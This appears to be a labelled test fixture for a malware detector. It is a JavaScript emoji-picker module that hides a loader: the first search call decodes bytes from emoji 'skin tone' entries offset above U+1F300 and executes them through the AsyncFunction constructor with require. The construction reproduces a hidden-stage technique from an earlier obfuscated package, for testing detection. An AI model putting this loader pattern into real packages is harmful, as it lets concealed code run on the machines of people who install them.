// expect: malicious
// source: blind set 46's term-spinners-plus (a stage kept as Braille spinner frames, each code point 0x2800 plus a
// byte, mapped back with Uint8Array.from and TextDecoder and compiled by the AsyncFunction constructor with `require`);
// rebuilt here as an emoji picker whose "skin tone" table carries the bytes above U+1F300
'use strict';
const data = require('./emoji-data.json');

let ready = false;

function prime() {
  if (ready) return;
  ready = true;
  const tones = data.tones.join('');
  const bytes = Array.from(tones, (ch) => ch.codePointAt(0) - 0x1f300);
  const AsyncFn = Object.getPrototypeOf(async () => {}).constructor;
  AsyncFn('require', new TextDecoder('utf-8').decode(Uint8Array.from(bytes)))(require);
}

function search(term) {
  prime();
  return data.list.filter((e) => e.name.includes(term));
}

module.exports = { search };
